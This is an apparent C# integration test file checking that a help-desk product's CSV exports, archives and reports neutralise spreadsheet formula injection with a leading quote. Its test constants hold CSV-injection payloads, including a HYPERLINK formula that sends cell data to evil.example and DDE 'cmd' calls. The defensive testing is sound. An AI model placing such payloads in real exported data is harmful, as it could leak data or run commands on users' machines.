using System.Net;
using System.Net.Http.Headers;
using System.Text.Json.Nodes;
using SupportFlow.IntegrationTests.Archive;
using SupportFlow.IntegrationTests.Infrastructure;
using SupportFlow.IntegrationTests.Tickets;
using SupportFlow.Server.Archive;
using SupportFlow.Server.Spreadsheets;
using static SupportFlow.IntegrationTests.Tickets.TicketTestKit;

namespace SupportFlow.IntegrationTests.Security;

/// <summary>
/// Text a reporter types that a spreadsheet would run as a formula (OWASP's CSV injection) leaves
/// every CSV the product writes with a leading single quote: the ticket export, the monthly
/// archive and the reports. The workbooks keep the text as typed (their cells are text), and an
/// export imported again gives back exactly what was typed.
/// </summary>
public sealed class CsvFormulaTests : IAsyncLifetime
{
    private const string Title = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我看详情\")";
    private const string Description = "+cmd|' /C calc'!A0 打印机卡纸";
    private const string Impact = "@SUM(1+1) 整个销售部";
    private const string Caller = "-2+3+cmd|' /C notepad'!A0";
    private const string Department = "=1+1 财务部";
    private const string QuotedTitle = "'=已经加了引号的标题";
    private const string Worklog = "=SUM(A1:A9) 检查日志";

    private Desk _desk = null!;
    private string _formula = "";
    private string _call = "";
    private string _quoted = "";

    public async Task InitializeAsync()
    {
        _desk = await Desk.OpenAsync();
        _formula = await _desk.ReportAsync(change: b =>
        {
            b["title"] = Title;
            b["description"] = Description;
            b["impact"] = Impact;
        });
        await Ok(_desk.Supervisor.Act(_formula, "assign", new { assignee = "eng1" }));
        await Ok(_desk.Engineer.Act(_formula, "worklog", new { text = Worklog, method = "remote" }));
        _call = await _desk.ReportAsync(_desk.Engineer, b =>
        {
            b["channel"] = "phone";
            b["reporter"] = new JsonObject { ["name"] = Caller, ["department"] = Department };
        });
        _quoted = await _desk.ReportAsync(_desk.Bob, b => b["title"] = QuotedTitle);
    }

    public async Task DisposeAsync() => await _desk.DisposeAsync();

    [Fact]
    public async Task TheTicketExportQuotesFormulaCellsAndImportsBackToTheTypedText()
    {
        var bytes = await DownloadAsync("/api/tickets/export?format=csv");
        var csv = Read(bytes);
        Assert.Equal("'" + Title, Cell(csv, _formula, "标题"));
        Assert.Equal("'" + Description, Cell(csv, _formula, "问题描述"));
        Assert.Equal("'" + Impact, Cell(csv, _formula, "影响范围"));
        Assert.Equal("'" + Caller, Cell(csv, _call, "报修人"));
        Assert.Equal("'" + Department, Cell(csv, _call, "部门"));
        Assert.Equal("''=已经加了引号的标题", Cell(csv, _quoted, "标题"));
        Assert.Equal(Desk.ReportTitle, Cell(csv, _call, "标题")); // plain text stays as it is
        AssertNoCellStartsAFormula(csv);

        var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(bytes);
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        form.Add(file, "file", "export.csv");
        var imported = await (await _desk.Supervisor.PostAsync("/api/tickets/import", form)).Json(HttpStatusCode.OK);
        var numbers = imported["numbers"]!.AsArray().Select(n => n!.GetValue<string>()).ToList();
        var titles = new List<string>();
        foreach (var number in numbers)
        {
            var ticket = await _desk.GetTicketAsync(number);
            titles.Add(ticket.Str("title"));
            if (ticket.Str("title") == Title)
            {
                Assert.Equal(Description, ticket.Str("description"));
                Assert.Equal(Impact, ticket.Str("impact"));
            }
        }

        Assert.Equal(new[] { Title, Desk.ReportTitle, QuotedTitle }.Order(StringComparer.Ordinal), titles.Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task TheMonthlyArchiveQuotesFormulaCellsInItsCsvAndKeepsTheTextInItsWorkbook()
    {
        await _desk.App.ArchiveAsync(ArchiveKit.May);
        var folder = _desk.App.Folder(ArchiveKit.May);
        var csv = ArchiveKit.ReadCsv(Path.Combine(folder, MonthlyArchive.Csv));
        Assert.Equal("'" + Title, Cell(csv, _formula, "标题"));
        Assert.Equal("'" + Caller, Cell(csv, _call, "报修人"));
        Assert.Equal("''=已经加了引号的标题", Cell(csv, _quoted, "标题"));
        AssertNoCellStartsAFormula(csv);

        var tickets = ArchiveKit.ReadSheet(Path.Combine(folder, MonthlyArchive.Xlsx), "Tickets");
        Assert.Equal(Title, Cell(tickets, _formula, "标题"));
        Assert.Equal(QuotedTitle, Cell(tickets, _quoted, "标题"));
        var history = ArchiveKit.ReadSheet(Path.Combine(folder, MonthlyArchive.Xlsx), "History");
        Assert.Contains(history, row => row.Contains(Worklog));
        Assert.Empty(_desk.App.Verify(ArchiveKit.May));
    }

    [Fact]
    public async Task TheReportCsvQuotesANameThatWouldRunAsAFormula()
    {
        var csv = Read(await DownloadAsync("/api/reports/volume?from=2026-05-01&to=2026-05-31&format=csv"));
        Assert.Contains(csv, row => row.Length >= 2 && row[0] == "'" + Department && row[1] == "1");
        Assert.Contains(csv, row => row.Length >= 2 && row[0] == Desk.SalesDepartment);
        AssertNoCellStartsAFormula(csv);
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("'=1+1", "''=1+1")]
    [InlineData("'", "'")]
    [InlineData("'引号", "'引号")]
    [InlineData("销售 = 1", "销售 = 1")]
    [InlineData("", "")]
    public void ACellIsQuotedOnlyBeforeAFormulaAndReadsBackAsWritten(string text, string cell)
    {
        Assert.Equal(cell, CsvCells.Safe(text));
        Assert.Equal(text, CsvCells.Unescape(cell));
    }

    [Fact]
    public void NoCsvIsWrittenPastTheSharedHelper()
    {
        var root = new DirectoryInfo(AppContext.BaseDirectory);
        while (root is not null && !File.Exists(Path.Combine(root.FullName, "SupportFlow.slnx")))
        {
            root = root.Parent;
        }

        Assert.NotNull(root);
        var helper = Path.Combine("Spreadsheets", "CsvCells.cs");
        var writers = Directory.EnumerateFiles(Path.Combine(root.FullName, "src"), "*.cs", SearchOption.AllDirectories)
            .Where(f => !f.Contains($"{Path.DirectorySeparatorChar}obj{Path.DirectorySeparatorChar}", StringComparison.Ordinal)
                        && !f.EndsWith(helper, StringComparison.Ordinal))
            .Where(f => File.ReadAllText(f) is var code
                        && (code.Contains("new CsvWriter(", StringComparison.Ordinal) || code.Contains(".WriteField(", StringComparison.Ordinal)))
            .Select(Path.GetFileName).ToList();
        Assert.True(writers.Count == 0, "CSV written without CsvCells: " + string.Join(", ", writers));
    }

    private static void AssertNoCellStartsAFormula(List<string[]> rows)
    {
        var bad = rows.SelectMany(r => r).Where(c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r').ToList();
        Assert.True(bad.Count == 0, "Cells a spreadsheet would run: " + string.Join(" | ", bad));
    }

    /// <summary>The cell of <paramref name="number"/>'s row in the column whose header starts with <paramref name="column"/>.</summary>
    private static string Cell(List<string[]> rows, string number, string column)
    {
        var index = Array.FindIndex(rows[0], h => h.StartsWith(column + " ", StringComparison.Ordinal));
        Assert.True(index >= 0, $"No column {column} in {string.Join(",", rows[0])}");
        return rows.Single(r => r[0] == number)[index];
    }

    private async Task<byte[]> DownloadAsync(string url)
    {
        var response = await _desk.Supervisor.GetAsync(url);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsByteArrayAsync();
    }

    private static List<string[]> Read(byte[] bytes)
    {
        var path = Path.GetTempFileName();
        try
        {
            File.WriteAllBytes(path, bytes);
            return ArchiveKit.ReadCsv(path);
        }
        finally
        {
            File.Delete(path);
        }
    }
}
